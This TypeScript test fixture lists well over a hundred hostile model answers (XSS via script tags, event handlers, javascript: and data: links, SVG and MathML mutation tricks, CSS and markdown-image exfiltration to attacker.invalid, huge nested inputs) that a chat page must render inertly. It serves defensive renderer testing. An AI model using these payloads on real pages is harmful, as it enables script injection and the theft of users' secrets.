// The table of hostile model answers the chat page must render inertly. Every payload that could run calls
// `pwn()` (the trap the test page exposes; alert/confirm/prompt/print are trapped too), and every URL points at a
// remote-looking host under `.invalid`, which resolves nowhere. Each case becomes one answer, streamed token by token.

export interface HostileCase {
  id: number;
  category: string;
  name: string;
  text: string;
}

const EVIL = 'https://attacker.invalid';
const LEAK = `${EVIL}/leak?code=const%20apiKey%3D`;

/** Base64 of `<script>pwn('data-uri')</script>` and of an SVG that calls pwn on load. */
const HTML_B64 = Buffer.from("<script>pwn('data-uri')</script>").toString('base64');
const SVG_B64 = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="pwn(\'svg-b64\')"><script>pwn(\'svg-b64-script\')</script></svg>').toString('base64');

const scriptTags: Array<[string, string]> = [
  ['plain script', "<script>pwn('script')</script>"],
  ['upper-case script', "<SCRIPT>pwn('SCRIPT')</SCRIPT>"],
  ['remote script src', `<script src="${EVIL}/x.js"></script>`],
  ['script with slash attribute', "<script/x>pwn('script-slash')</script>"],
  ['split script tag', "<scr<script>ipt>pwn('split')</scr</script>ipt>"],
  ['script inline in a sentence', "Here is the fix <script>pwn('inline')</script> as promised."],
  ['script in a list item', "- first\n- <script>pwn('li')</script>\n- third"],
  ['script in a heading', "## Title <script>pwn('h2')</script>"],
  ['script in a blockquote', "> quoted <script>pwn('quote')</script>"],
  ['script after a comment', "<!-- x --><script>pwn('after-comment')</script>"],
  ['module script', "<script type=module>pwn('module')</script>"],
  ['noscript breakout', '<noscript><p title="</noscript><img src=x onerror=pwn(\'noscript\')>">'],
];

/** Event handlers in every element form: quoting, separators, case, odd whitespace, entities. */
const handlerElements: Array<[string, string]> = [
  ['img onerror double quotes', '<img src="x" onerror="pwn(\'img-dq\')">'],
  ['img onerror single quotes', "<img src='x' onerror='pwn(`img-sq`)'>"],
  ['img onerror unquoted', '<img src=x onerror=pwn(\'img-uq\')>'],
  ['img slash separators', '<img/src=x/onerror=pwn(\'img-slash\')>'],
  ['img upper-case handler', '<IMG SRC=x ONERROR=pwn(\'IMG\')>'],
  ['img newline and tab before handler', "<img src=x\n\tonerror=pwn('img-ws')>"],
  ['img entity-encoded handler body', '<img src=x onerror="&#112;&#119;&#110;&#40;&#39;img-ent&#39;&#41;">'],
  ['svg onload', "<svg onload=pwn('svg')>"],
  ['body onload', "<body onload=pwn('body')>"],
  ['div onmouseover', "<div onmouseover=\"pwn('div')\">hover me</div>"],
  ['a onclick', "<a href=\"#\" onclick=\"pwn('a-click')\">click</a>"],
  ['input autofocus onfocus', "<input autofocus onfocus=pwn('input')>"],
  ['details ontoggle', "<details open ontoggle=pwn('details')><summary>x</summary></details>"],
  ['video source onerror', "<video><source onerror=pwn('video')></video>"],
  ['audio onerror', "<audio src=x onerror=pwn('audio')>"],
  ['marquee onstart', "<marquee onstart=pwn('marquee')>x</marquee>"],
  ['select onfocus autofocus', "<select autofocus onfocus=pwn('select')></select>"],
  ['textarea onfocus autofocus', "<textarea autofocus onfocus=pwn('textarea')></textarea>"],
  ['button onclick', "<button onclick=pwn('button')>Run</button>"],
  ['style onload', "<style onload=pwn('style-onload')></style>"],
  ['iframe onload', "<iframe onload=pwn('iframe-onload')></iframe>"],
  ['object onerror', "<object data=x onerror=pwn('object')></object>"],
  ['span with contenteditable onfocus', "<span contenteditable autofocus onfocus=pwn('span')>x</span>"],
  ['handler with null byte in name', "<img src=x on\u0000error=pwn('nul')>"],
];

const links: Array<[string, string]> = [
  ['javascript: link', "[click](javascript:pwn('js'))"],
  ['mixed-case javascript: link', "[click](JaVaScRiPt:pwn('JsMixed'))"],
  ['entity-encoded colon', "[click](javascript&#58;pwn('ent-colon'))"],
  ['entity-encoded scheme letter', "[click](&#106;avascript:pwn('ent-j'))"],
  ['hex-entity scheme', "[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:pwn('hex'))"],
  ['percent-encoded scheme', "[click](%6Aavascript:pwn('pct'))"],
  ['angle-bracket destination with tab', "[click](<java\tscript:pwn('tab')>)"],
  ['leading space in destination', "[click](< javascript:pwn('space')>)"],
  ['data: text/html link', `[click](data:text/html;base64,${HTML_B64})`],
  ['vbscript: link', "[click](vbscript:msgbox('vb'))"],
  ['file: link', '[passwd](file:///etc/passwd)'],
  ['command: link', '[terminal](command:workbench.action.terminal.new)'],
  ['protocol-relative link', '[x](//attacker.invalid/x)'],
  ['relative link', '[x](/settings?leak=1)'],
  ['raw html javascript: anchor', "<a href=\"javascript:pwn('raw-a')\">click</a>"],
  ['raw html entity-encoded anchor', '<a href="&#106;avascript&#58;pwn(\'raw-ent\')">click</a>'],
  ['reference-style javascript: link', "[click][r]\n\n[r]: javascript:pwn('ref')"],
  ['title attribute breakout', `[x](${EVIL}/ok "a\\" onmouseover=\\"pwn('title')")`],
  ['link text holding html', `[<img src=x onerror=pwn('link-text')>](${EVIL}/)`],
  ['https link to a remote host (allowed, not followed)', `[docs](${EVIL}/docs)`],
];

const svgMath: Array<[string, string]> = [
  ['svg script', "<svg><script>pwn('svg-script')</script></svg>"],
  ['svg xlink javascript anchor', "<svg><a xlink:href=\"javascript:pwn('svg-a')\"><text x=1 y=10>x</text></a></svg>"],
  ['svg animate onbegin', "<svg><animate onbegin=pwn('animate') attributeName=x dur=1s></svg>"],
  ['svg set onload', "<svg><set attributeName=onload to=pwn('set')></svg>"],
  ['svg use data uri', `<svg><use href="data:image/svg+xml;base64,${SVG_B64}#x"></use></svg>`],
  ['svg foreignObject iframe', "<svg><foreignObject><iframe srcdoc=\"<script>pwn('fo')</script>\"></iframe></foreignObject></svg>"],
  ['svg image remote href', `<svg><image href="${EVIL}/svg.png"></image></svg>`],
  ['mathml mglyph style mutation', "<math><mtext><table><mglyph><style><img src=x onerror=pwn('mxss')></style></mglyph></table></mtext></math>"],
  ['mathml href', "<math href=\"javascript:pwn('math-href')\">x</math>"],
  ['mathml maction', "<math><maction actiontype=statusline xlink:href=javascript:pwn('maction')>x</maction></math>"],
  ['svg data-uri image in markdown', `![chart](data:image/svg+xml;base64,${SVG_B64})`],
];

const framesAndForms: Array<[string, string]> = [
  ['iframe javascript src', "<iframe src=\"javascript:pwn('iframe-js')\"></iframe>"],
  ['iframe srcdoc', "<iframe srcdoc=\"<script>pwn('srcdoc')</script>\"></iframe>"],
  ['iframe remote src', `<iframe src="${EVIL}/frame"></iframe>`],
  ['form posting remote', `<form action="${EVIL}/collect" method=post><input name=code value=secret><button>Send</button></form>`],
  ['button formaction', "<form><button formaction=\"javascript:pwn('formaction')\">x</button></form>"],
  ['object data javascript', "<object data=\"javascript:pwn('object-js')\"></object>"],
  ['embed remote', `<embed src="${EVIL}/x.swf">`],
  ['base href hijack', `<base href="${EVIL}/">\n\n[relative](x)`],
  ['meta refresh', "<meta http-equiv=refresh content=\"0;url=javascript:pwn('meta')\">"],
  ['link stylesheet remote', `<link rel=stylesheet href="${EVIL}/x.css">`],
  ['link prefetch remote', `<link rel=prefetch href="${EVIL}/prefetch">`],
  ['portal remote', `<portal src="${EVIL}/portal"></portal>`],
];

const css: Array<[string, string]> = [
  ['style @import', `<style>@import '${EVIL}/import.css';</style>`],
  ['style url()', `<style>body{background:url(${EVIL}/bg.png)}</style>`],
  ['style attribute url()', `<div style="background:url(${EVIL}/div.png)">x</div>`],
  ['style @font-face', `<style>@font-face{font-family:x;src:url(${EVIL}/f.woff)} body{font-family:x}</style>`],
  ['style expression/behavior', "<p style=\"behavior:url(x.htc);width:expression(pwn('expr'))\">x</p>"],
  ['css selector exfiltration', `<style>input[value^="a"]{background:url(${EVIL}/a)}</style><input value=abc>`],
  ['css in a fence stays code', `\`\`\`css\n@import '${EVIL}/fenced.css';\nbody { background: url(${EVIL}/fenced.png); }\n\`\`\``],
];

const images: Array<[string, string]> = [
  ['markdown image exfiltration', `![loading](${LEAK})`],
  ['protocol-relative image', '![x](//attacker.invalid/x.png)'],
  ['reference-style image', `![x][img]\n\n[img]: ${EVIL}/ref.png`],
  ['image inside a link', `[![badge](${EVIL}/badge.png)](${EVIL}/)`],
  ['data: png image', '![px](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)'],
  ['same-origin path image', '![x](/dist/leak.png)'],
  ['javascript: image', "![x](javascript:pwn('img-js'))"],
  ['image with title', `![x](${EVIL}/t.png "title")`],
  ['image with spaces in angle brackets', `![x](<${EVIL}/a b.png>)`],
  ['image in a table cell', `| a | b |\n|---|---|\n| ![x](${EVIL}/cell.png) | y |`],
  ['image in a list', `- ![x](${EVIL}/li.png)\n- two`],
  ['raw img remote', `<img src="${EVIL}/raw.png">`],
  ['raw img srcset', `<img srcset="${EVIL}/1x.png 1x, ${EVIL}/2x.png 2x">`],
  ['picture source srcset', `<picture><source srcset="${EVIL}/p.png"><img src="${EVIL}/p2.png"></picture>`],
  ['image reference defined late while streaming', `Look: ![x][late]\n\nmore text\n\n[late]: ${LEAK}late`],
];

const autolinks: Array<[string, string]> = [
  ['angle autolink https', `<${EVIL}/auto>`],
  ['angle autolink javascript', "<javascript:pwn('autolink')>"],
  ['angle autolink mailto', '<mailto:x@attacker.invalid>'],
  ['gfm www autolink', 'see www.attacker.invalid/path for details'],
  ['bare https url', `see ${EVIL}/bare?x=1 now`],
  ['email autolink', 'mail x@attacker.invalid please'],
  ['autolink with entity-encoded javascript', '<&#106;avascript:pwn(\'auto-ent\')>'],
];

const rawHtml: Array<[string, string]> = [
  ['html block div with script', "<div>\n<script>pwn('div-block')</script>\n</div>"],
  ['cdata', "<![CDATA[<script>pwn('cdata')</script>]]>"],
  ['processing instruction', "<?xml version=\"1.0\"?><script>pwn('pi')</script>"],
  ['table html block', "<table><tr><td><img src=x onerror=pwn('td')></td></tr></table>"],
  ['template', "<template><script>pwn('template')</script></template>"],
  ['textarea breakout', "<textarea></textarea><script>pwn('textarea-break')</script>"],
  ['title element', "<title><img src=x onerror=pwn('title-el')></title>"],
  ['xmp and plaintext', "<xmp><script>pwn('xmp')</script></xmp><plaintext><script>pwn('plain')</script>"],
  ['entity-escaped html stays text', "&lt;script&gt;pwn('escaped')&lt;/script&gt; and &#60;img src=x onerror=pwn('ent')&#62;"],
  ['html comment hiding markup', "<!--><img src=x onerror=pwn('comment')>-->"],
];

const codeAndTables: Array<[string, string]> = [
  ['html in a fence', "```html\n<script>pwn('fence')</script>\n<img src=x onerror=pwn('fence-img')>\n```"],
  ['fence that closes code early', "```js\n</code></pre><script>pwn('close-pre')</script>\n```"],
  ['code span with html', "Use `<img src=x onerror=pwn('codespan')>` carefully."],
  ['fence info string with markup', "```\"><img src=x onerror=pwn('info')>\nx\n```"],
  ['fence info string javascript', "```javascript:pwn('info-js')\nlet a = 1;\n```"],
  ['unclosed fence with script', "```html\n<script>pwn('unclosed')</script>\n"],
  ['table cell with img onerror', "| a | b |\n|---|---|\n| <img src=x onerror=pwn('cell')> | y |"],
  ['table cell with javascript link', "| a |\n|---|\n| [x](javascript:pwn('cell-link')) |"],
  ['table header with script', "| <script>pwn('th')</script> |\n|---|\n| y |"],
  ['tilde fence with iframe', "~~~\n<iframe srcdoc=\"<script>pwn('tilde')</script>\"></iframe>\n~~~"],
];

function repeatTo(bytes: number, block: string): string {
  return block.repeat(Math.ceil(bytes / block.length)).slice(0, bytes);
}

/** Huge and deeply nested answers: the page must stay responsive and still render nothing live. */
function hugeAndNested(): Array<[string, string]> {
  const depth = 10_000;
  const mixed =
    "## Section\n\nSome text with `code` and **bold** <img src=x onerror=pwn('huge')> and " +
    `![i](${EVIL}/huge.png) and [l](javascript:pwn('huge-link')).\n\n` +
    "```js\nconst a = '<script>pwn(1)</script>';\n```\n\n| a | b |\n|---|---|\n| 1 | <svg onload=pwn('huge-svg')> |\n\n";
  return [
    ['1 MB mixed markdown', repeatTo(1024 * 1024, mixed)],
    ['10,000 nested blockquotes', `${'> '.repeat(depth)}deep <img src=x onerror=pwn('deep-quote')>`],
    ['10,000 nested bullet lists', `${'- '.repeat(depth)}deep <img src=x onerror=pwn('deep-list')>`],
    ['10,000 nested ordered lists', `${'1. '.repeat(depth)}deep`],
    ['10,000 list lines, indentation climbing in waves', Array.from({ length: depth }, (_, i) => `${'  '.repeat(i % 20)}- level ${i}`).join('\n')],
    ['10,000 nested emphasis openers', `${'*a '.repeat(depth)}<img src=x onerror=pwn('deep-em')>`],
    ['10,000 nested brackets', `${'['.repeat(depth)}x${'](javascript:pwn(\'deep-link\'))'.repeat(50)}`],
    ['10,000 nested html divs', `${'<div>'.repeat(depth)}<img src=x onerror=pwn('deep-div')>${'</div>'.repeat(depth)}`],
    ['10,000 blockquote lines', Array.from({ length: depth }, (_, i) => `${'>'.repeat(1 + (i % 30))} line ${i}`).join('\n')],
  ];
}

const GROUPS: Array<[string, Array<[string, string]>]> = [
  ['script tags', scriptTags],
  ['event handlers', handlerElements],
  ['links', links],
  ['svg and mathml', svgMath],
  ['frames, forms, objects', framesAndForms],
  ['css', css],
  ['images', images],
  ['autolinks', autolinks],
  ['raw html', rawHtml],
  ['code fences and tables', codeAndTables],
  ['huge and nested', hugeAndNested()],
];

export function hostileCases(): HostileCase[] {
  const cases: HostileCase[] = [];
  for (const [category, entries] of GROUPS) {
    for (const [name, payload] of entries) {
      const id = cases.length + 1;
      cases.push({ id, category, name, text: `${caseLabel(id)}\n\n${payload}` });
    }
  }
  return cases;
}

/** The first line of every case; the test checks it was rendered, so a blank page cannot pass. */
export function caseLabel(id: number): string {
  return `Hostile case ${String(id).padStart(3, '0')}:`;
}

/**
 * Splits an answer the way a model streams it: words, runs of spaces and single punctuation characters, so tags and
 * URLs arrive cut at every boundary. Very long answers go in 8 KB pieces to keep the test bounded.
 */
export function tokenize(text: string): string[] {
  if (text.length > 64 * 1024) {
    const pieces: string[] = [];
    for (let i = 0; i < text.length; i += 8192) pieces.push(text.slice(i, i + 8192));
    return pieces;
  }
  return text.match(/\s+|[A-Za-z0-9]{1,6}|[^\sA-Za-z0-9]/gu) ?? [];
}
